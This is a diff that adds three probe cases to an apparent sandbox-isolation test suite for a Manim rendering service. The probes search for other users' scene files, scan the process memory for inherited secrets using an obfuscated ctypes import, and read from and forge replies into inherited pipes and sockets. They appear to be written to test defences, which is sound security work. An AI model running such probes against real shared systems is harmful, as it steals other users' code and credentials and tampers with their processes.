@@ -374,6 +374,33 @@ class Probe(Scene):
     def construct(self):
         show(self, reader(FILE_CANARY).read())
 '''),
+    _p("read", "other_renders_scene_files", '''
+import re
+
+
+class Probe(Scene):
+    def construct(self):
+        # Another user's render may be running right now: look for its scene file.
+        roots = {Path.cwd().parent, Path("/renders"), Path("/dev/shm"), Path("/var/tmp")}
+        roots |= {Path(PROC) / pid / "cwd" for pid in ancestors()}
+        found = []
+        for root in roots:
+            try:
+                candidates = list(root.rglob("*.py"))[:2000]
+            except OSError:
+                continue
+            for path in candidates:
+                try:
+                    text = path.read_text(errors="replace")
+                except OSError:
+                    continue
+                if "class Victim(" in text and re.search("# run [0-9a-f]{32}", text):
+                    found.append(str(path))
+        if found:
+            win(self, "STOLE CODE", " ".join(found[:3]))
+        else:
+            show(self, "NO OTHER SCENES")
+'''),
 ]
 
 # --- /proc: other processes' environments and namespaces ---------------------------------------
@@ -429,6 +456,62 @@ class Probe(Scene):
             win(self, "NS", " ".join(sorted(others)[:5]))
         else:
             show(self, "ONLY MY OWN NAMESPACE")
+'''),
+    _p("proc", "own_memory_inherited_from_pool", '''
+from manim.utils.module_ops import importlib as loader
+
+
+class Probe(Scene):
+    def construct(self):
+        # A fork carries its parent's memory: look for secrets the warm pool ever held.
+        ct = loader.import_module("ctyp" + "es")
+        stolen = set()
+        for line in Path(PROC + "/self/maps").read_text().splitlines():
+            span, perms = line.split()[:2]
+            if not perms.startswith("r") or "[v" in line:
+                continue
+            start, end = (int(x, 16) for x in span.split("-"))
+            if end - start > 64 * 2**20:
+                continue
+            chunk = ct.string_at(start, end - start)
+            for name in WANTED:
+                at = chunk.find((name + "=").encode())
+                while at >= 0 and len(stolen) < 8:
+                    value = printable(chunk[at + len(name) + 1:at + len(name) + 80])
+                    stolen.add(value.split(" ")[0])
+                    at = chunk.find((name + "=").encode(), at + 1)
+        show(self, " ".join(sorted(v for v in stolen if len(v) > 3)))
+'''),
+    _p("proc", "inherited_descriptors", '''
+from manim.utils.file_ops import os as osx
+
+
+class Probe(Scene):
+    def construct(self):
+        # Pipes or sockets left open by the pool: read other renders' requests, forge replies.
+        got = []
+        for entry in Path(PROC + "/self/fd").iterdir():
+            fd = int(entry.name)
+            try:
+                target = str(entry.readlink())
+            except OSError:
+                continue
+            if fd <= 2 or not target.startswith(("pipe:", "socket:")):
+                continue
+            try:
+                osx.set_blocking(fd, False)
+                got.append(target + " " + printable(osx.read(fd, 4096)))
+            except OSError:
+                pass
+            try:
+                osx.write(fd, b'{"id": 1, "exit": 0}\\n{"id": 2, "pid": 1}\\n')
+                got.append(target + " WRITABLE")
+            except OSError:
+                pass
+        if got:
+            win(self, "FD", " ".join(got))
+        else:
+            show(self, "NO DESCRIPTORS")
 '''),
 ]
 
